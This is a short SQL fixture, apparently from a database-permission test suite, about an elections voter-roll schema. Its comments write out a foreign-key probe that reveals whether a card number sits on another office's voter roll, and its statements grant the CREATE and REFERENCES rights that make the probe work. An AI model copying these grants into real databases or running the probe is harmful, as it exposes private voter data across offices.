-- With REFERENCES and a place for tables, a foreign key of the caller's own probes the voters of all
-- offices.
-- about: voters, scratch
-- as: hf_elections_app
-- exploit: SET elections.authority = 'HI0001';
-- exploit: CREATE TABLE scratch.probe (a text, c text, FOREIGN KEY (a, c) REFERENCES vote.voters
-- exploit: (authority_id, card_no));
-- exploit: INSERT INTO scratch.probe VALUES ('RO0002', 'R9') RETURNING 'card is on their roll';
-- shows: card is on their roll
-- Offices load their lists into tables of their own before they are merged.
CREATE SCHEMA scratch;
GRANT USAGE, CREATE ON SCHEMA scratch TO hf_elections_app;
GRANT REFERENCES ON vote.voters TO hf_elections_app;
